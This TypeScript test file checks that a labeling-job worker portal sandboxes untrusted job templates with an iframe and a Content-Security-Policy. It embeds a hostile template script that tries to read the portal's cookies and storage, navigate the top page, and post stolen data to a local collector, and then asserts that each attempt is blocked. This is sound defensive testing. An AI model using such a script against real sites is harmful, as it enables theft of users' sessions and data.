import { CreateLabelingJobCommand } from "@aws-sdk/client-sagemaker";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { launchBrowser, type Browser } from "../helpers/browser.js";
import { engineIdle, uploadJobInputs } from "../helpers/job-fixtures.js";
import { seedRequest } from "../helpers/requests.js";
import { startTestServer, type TestServer } from "../helpers/test-server.js";

/**
 * A job's template is code from whoever created the job. It runs in a sandboxed iframe (scripts
 * only, an opaque origin) under a Content-Security-Policy, so it cannot read the portal's cookies
 * or storage, navigate the portal away, or post a form anywhere.
 */

const WORKER = "localworker00001";
let server: TestServer;
let collector: Server;
let collectorUrl: string;
/** Every request the template managed to send to the collector. */
const received: string[] = [];

/** A hostile template: it records what it can reach, then tries to leave with the data. */
const hostileTemplate = (target: string) => `
<pre id="report">running</pre>
<form id="exfiltrate" action="${target}/form" method="post"><input name="stolen" value="task"></form>
<script>
  const report = {};
  const attempt = (name, read) => {
    try { report[name] = String(read()); } catch (error) { report[name] = "blocked: " + error.name; }
  };
  attempt("cookie", () => document.cookie);
  attempt("storage", () => localStorage.getItem("gt-local:worker"));
  attempt("parentCookie", () => parent.document.cookie);
  attempt("parentStorage", () => parent.localStorage.getItem("gt-local:worker"));
  attempt("origin", () => window.origin);
  // Only from inside the portal: a page opened on its own may navigate itself, which harms nobody.
  if (window !== top) attempt("navigateTop", () => { top.location.href = "${target}/navigated"; return "no error"; });
  document.getElementById("report").textContent = JSON.stringify(report);
  try { document.getElementById("exfiltrate").submit(); } catch (error) { /* blocked */ }
</script>`;

beforeAll(async () => {
  collector = createServer((request, response) => {
    received.push(`${request.method ?? ""} ${request.url ?? ""}`);
    response.end("collected");
  });
  await new Promise<void>((resolve) => collector.listen(0, "127.0.0.1", resolve));
  collectorUrl = `http://127.0.0.1:${String((collector.address() as AddressInfo).port)}`;
  server = await startTestServer({ startDelayMs: 0 });
  await uploadJobInputs(server, { template: hostileTemplate(collectorUrl) });
  const request = seedRequest();
  request.HumanTaskConfig!.NumberOfHumanWorkersPerDataObject = 1;
  await server.sagemaker.send(new CreateLabelingJobCommand(request));
  await engineIdle(server);
});
afterAll(async () => {
  await server.close();
  await new Promise((resolve) => collector.close(resolve));
});

async function claimTask(): Promise<string> {
  const response = await fetch(`${server.url}/_gt/api/tasks/claim`, {
    method: "POST",
    body: JSON.stringify({ workerId: WORKER }),
  });
  return ((await response.json()) as { task: { id: string } }).task.id;
}

describe("the task frame's headers", () => {
  it("carry a CSP that sandboxes the template, sends forms nowhere and frames only in the portal", async () => {
    const taskId = await claimTask();
    const response = await fetch(`${server.url}/_gt/portal/tasks/${taskId}/frame?workerId=${WORKER}`);
    expect(response.status).toBe(200);
    const policy = (response.headers.get("content-security-policy") ?? "")
      .split(";")
      .map((part) => part.trim());
    expect(policy).toEqual(
      expect.arrayContaining(["sandbox allow-scripts", "form-action 'none'", "frame-ancestors 'self'"]),
    );
    expect(response.headers.get("cache-control")).toBe("no-store");
  });
});

describe("a hostile template in Chromium", () => {
  let browser: Browser;
  beforeAll(async () => {
    browser = await launchBrowser();
  });
  afterAll(async () => {
    await browser.close();
  });

  it("cannot read the portal's cookies or storage, navigate the portal, or post a form elsewhere", async () => {
    const page = await browser.context.newPage();
    await browser.context.addCookies([{ name: "portal-secret", value: "s3cret", url: server.url }]);
    await page.goto(`${server.url}/_gt/`);
    await page.getByRole("button", { name: "Start working" }).click();
    await page.waitForURL(/\/_gt\/portal\/tasks\//u);
    const portalUrl = page.url();
    expect(await page.locator("iframe").getAttribute("sandbox")).toBe("allow-scripts");
    const report = page.frameLocator("iframe").locator("#report");
    await expect.poll(() => report.textContent()).not.toBe("running");
    const seen = JSON.parse((await report.textContent()) ?? "{}") as Record<string, string>;
    expect(seen).toMatchObject({
      cookie: "blocked: SecurityError",
      storage: "blocked: SecurityError",
      parentCookie: "blocked: SecurityError",
      parentStorage: "blocked: SecurityError",
      origin: "null",
    });
    // The portal itself holds both, so the frame was refused them, not shown an empty jar.
    expect(await page.evaluate(() => document.cookie)).toContain("portal-secret=s3cret");
    expect(await page.evaluate(() => localStorage.getItem("gt-local:worker"))).toBe(WORKER);
    await page.waitForTimeout(500);
    expect(page.url()).toBe(portalUrl);
    expect(received).toEqual([]);
  });

  it("opened on its own, still runs sandboxed (the CSP's sandbox), not as the portal's origin", async () => {
    const page = await browser.context.newPage();
    const taskId = await claimTask();
    await page.goto(`${server.url}/_gt/portal/tasks/${taskId}/frame?workerId=${WORKER}`);
    await expect.poll(() => page.locator("#report").textContent()).not.toBe("running");
    const seen = JSON.parse((await page.locator("#report").textContent()) ?? "{}") as Record<string, string>;
    expect(seen).toMatchObject({
      origin: "null",
      cookie: "blocked: SecurityError",
      storage: "blocked: SecurityError",
    });
    await page.waitForTimeout(500);
    expect(received).toEqual([]);
  });
});
